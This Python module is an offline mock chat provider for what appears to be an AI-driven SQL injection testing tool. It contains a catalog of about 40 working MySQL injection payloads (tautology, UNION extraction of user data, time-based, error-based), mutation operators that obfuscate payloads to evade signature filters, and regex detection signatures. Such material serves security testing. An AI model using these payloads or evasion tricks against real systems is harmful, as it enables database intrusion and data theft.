"""Deterministic offline chat provider.

The response is a pure function of (seed, 64-bit prompt hash, quantized
temperature). Three prompt shapes are recognized:

* payload requests ("Return exactly N candidate payloads ...") sample from a
  built-in catalog of canonical injection payloads, or from the in-context
  example block when the prompt carries one, and apply temperature-scaled
  mutation: 0 operators at T=0 (verbatim catalog text), more as T rises;
* discriminator requests (payload between ``<<<PAYLOAD`` markers) return a
  0-10 score equal to the number of matching signature families, capped;
* anything else gets deterministic analyst-style prose, enough to feed the
  chained reasoning phases.
"""

from __future__ import annotations

import hashlib
import random
import re

from .base import ChatRequest, ChatResponse

# canonical payloads spanning union, boolean-blind, time, error, and
# comment/encoding obfuscation classes; all valid MySQL in a string context
CATALOG = (
    "' OR 1=1-- -",
    "' OR 'a'='a",
    "' OR 1=1#",
    "' OR TRUE-- -",
    "' OR NOT 1=2-- -",
    "' OR 2>1 OR ''='",
    "' OR name LIKE '%",
    "' OR id>0-- -",
    "' OR 1 BETWEEN 0 AND 2-- -",
    "' OR 'x' IN ('x','y')-- -",
    "' UNION SELECT NULL,NULL-- -",
    "' UNION SELECT 1,VERSION()-- -",
    "' UNION SELECT NULL,name FROM users-- -",
    "' UNION SELECT COUNT(*),NULL FROM users-- -",
    "' UNION ALL SELECT 1,DATABASE()#",
    "' UNION SELECT 1,@@version-- -",
    "' UNION SELECT NULL,CONCAT(id,':',name) FROM users-- -",
    "' AND 1=2 UNION SELECT 1,USER()-- -",
    "' UNION SELECT NULL,HEX(name) FROM users-- -",
    "' UNION SELECT 1,table_name FROM information_schema.tables-- -",
    "' OR SLEEP(2)-- -",
    "' OR IF(1=1,SLEEP(2),0)-- -",
    "'; SELECT SLEEP(2)-- -",
    "' OR BENCHMARK(30000000,MD5('t'))-- -",
    "' OR SLEEP(2) OR ''='",
    "' OR EXTRACTVALUE(1,CONCAT(0x7e,VERSION()))-- -",
    "' OR UPDATEXML(1,CONCAT(0x7e,DATABASE()),1)-- -",
    "' OR EXP(710)-- -",
    "' OR 1=(SELECT 2 UNION SELECT 3)-- -",
    "' OR EXTRACTVALUE(1,CONCAT(0x7e,name))-- -",
    "' OR name=0x616c696365-- -",
    "' OR name=CHAR(97,108,105,99,101)-- -",
    "'/**/OR/**/1=1-- -",
    "' oR 1=1-- -",
    "' OR/**/SLEEP(2)#",
    "' OR LOWER(name)='x",
    "' OR REVERSE('ecila')=name-- -",
    "' OR 0x61='a",
    "' AND SUBSTRING(VERSION(),1,1)='8",
    "' OR (SELECT COUNT(*) FROM users)>9-- -",
)

# signature families the mock discriminator counts (lowercased input)
SIGNATURES = (
    ("or-numeric-eq", r"\bor\b\s+\d+\s*=\s*\d+"),
    ("quote-or", r"'\s*or\b"),
    ("comment-tail", r"--|#"),
    ("union-select", r"union\s+(?:all\s+)?select"),
    ("sleep-call", r"sleep\s*\("),
    ("benchmark-call", r"benchmark\s*\("),
    ("hex-literal", r"0x[0-9a-f]+"),
    ("inline-comment", r"/\*.*?\*/"),
    ("char-encode", r"char\s*\("),
    ("info-schema", r"information_schema"),
    ("xpath-error", r"extractvalue|updatexml"),
    ("stacked", r";\s*(?:select|insert|update|delete|drop)"),
    ("string-tautology", r"'[^']*'\s*=\s*'"),
    ("version-probe", r"@@version|version\s*\("),
    ("like-probe", r"\blike\b"),
)
_COMPILED_SIGNATURES = tuple((name, re.compile(p)) for name, p in SIGNATURES)

_COUNT_RE = re.compile(r"Return exactly (\d+) candidate payload")
_SCORE_RE = re.compile(r"<<<PAYLOAD\n(.*?)\nPAYLOAD>>>", re.DOTALL)
_EXAMPLES_RE = re.compile(r"BEGIN EXAMPLES\n(.*?)\nEND EXAMPLES", re.DOTALL)

_PROSE_FRAGMENTS = (
    "the filter normalizes case and collapses whitespace before matching",
    "signature families concentrate on union keywords and comment tokens",
    "numeric tautologies are matched with loose spacing rules",
    "hex and CHAR encodings sidestep literal string signatures",
    "inline comments split keywords across token boundaries",
    "time-based probes are flagged by function-name lists",
    "stacked statements trip the separator heuristics",
    "uncommon operators keep the boolean structure while avoiding keywords",
    "string-context payloads must balance the opening quote",
    "subqueries change the statement shape without new keywords",
    "shorter payloads carry fewer matchable grams",
    "the comment suffix removes the trailing context quote",
)


def prompt_hash64(prompt: str) -> int:
    return int.from_bytes(hashlib.blake2b(prompt.encode("utf-8"), digest_size=8).digest(), "big")


def score_payload(payload: str) -> int:
    """Signature-family hit count, capped at 10."""
    lowered = payload.lower()
    hits = sum(1 for _, pattern in _COMPILED_SIGNATURES if pattern.search(lowered))
    return min(hits, 10)


class MockProvider:
    """Offline provider; stateless and safe for concurrent use."""

    def __init__(self, provider_id: str = "mock", seed: int = 0):
        self.provider_id = provider_id
        self.seed = seed

    def complete(self, request: ChatRequest) -> ChatResponse:
        rng = self._rng(request)
        score_match = _SCORE_RE.search(request.prompt)
        if score_match and "0-10" in request.prompt:
            score = score_payload(score_match.group(1))
            text = f"{score}/10: matched {score} known signature families."
        else:
            count_match = _COUNT_RE.search(request.prompt)
            if count_match:
                text = self._payloads(rng, int(count_match.group(1)), request)
            else:
                text = self._prose(rng)
        return ChatResponse(text[: request.max_output_chars], self.provider_id, 0)

    def _rng(self, request: ChatRequest) -> random.Random:
        quant_t = int(round(request.temperature * 20))
        seed = request.seed if request.seed else self.seed
        material = f"{seed}:{prompt_hash64(request.prompt)}:{quant_t}".encode()
        return random.Random(int.from_bytes(hashlib.blake2b(material, digest_size=8).digest(), "big"))

    def _payloads(self, rng: random.Random, count: int, request: ChatRequest) -> str:
        pool = CATALOG
        examples = _EXAMPLES_RE.search(request.prompt)
        if examples:
            seeds = [
                line[2:] if line.startswith("- ") else line
                for line in examples.group(1).splitlines()
                if line.strip()
            ]
            if seeds:
                pool = tuple(seeds)
        n_ops = int(request.temperature * 4)
        lines = []
        for i in range(count):
            payload = rng.choice(pool)
            for _ in range(n_ops):
                payload = _mutate(payload, rng)
            # keep the MySQL comment tail robust to whitespace stripping
            if payload.endswith("-- "):
                payload += "-"
            elif payload.endswith("--"):
                payload += " -"
            lines.append(f"{i + 1}. {payload}")
        return "\n".join(lines)

    def _prose(self, rng: random.Random) -> str:
        # bullet markers, not numbers: prose must never look like the payload
        # list contract the extraction layer parses
        picks = rng.sample(_PROSE_FRAGMENTS, 3)
        return "\n".join(f"- Observation: {frag}." for frag in picks)


# --- mutation operators ------------------------------------------------------

_WORD_RE = re.compile(r"[A-Za-z]{2,}")
_SHORT_LITERAL_RE = re.compile(r"'([A-Za-z0-9_]{1,12})'")


def _space_positions(payload: str) -> list[int]:
    # never touch the space that makes "-- " a comment
    return [
        i
        for i, ch in enumerate(payload)
        if ch == " " and payload[max(0, i - 2) : i] != "--"
    ]


def _mutate_case(payload: str, rng: random.Random) -> str:
    words = list(_WORD_RE.finditer(payload))
    if not words:
        return payload
    m = rng.choice(words)
    toggled = "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in m.group())
    return payload[: m.start()] + toggled + payload[m.end() :]


def _mutate_inline_comment(payload: str, rng: random.Random) -> str:
    spots = _space_positions(payload)
    if not spots:
        return payload
    i = rng.choice(spots)
    return payload[:i] + "/**/" + payload[i + 1 :]


def _mutate_whitespace(payload: str, rng: random.Random) -> str:
    spots = _space_positions(payload)
    if not spots:
        return payload
    i = rng.choice(spots)
    return payload[:i] + "\t" + payload[i + 1 :]


def _mutate_hex_literal(payload: str, rng: random.Random) -> str:
    literals = list(_SHORT_LITERAL_RE.finditer(payload))
    if not literals:
        return _mutate_case(payload, rng)
    m = rng.choice(literals)
    encoded = "0x" + m.group(1).encode("latin-1").hex()
    return payload[: m.start()] + encoded + payload[m.end() :]


_MUTATIONS = (_mutate_case, _mutate_inline_comment, _mutate_whitespace, _mutate_hex_literal)


def _mutate(payload: str, rng: random.Random) -> str:
    return rng.choice(_MUTATIONS)(payload, rng)
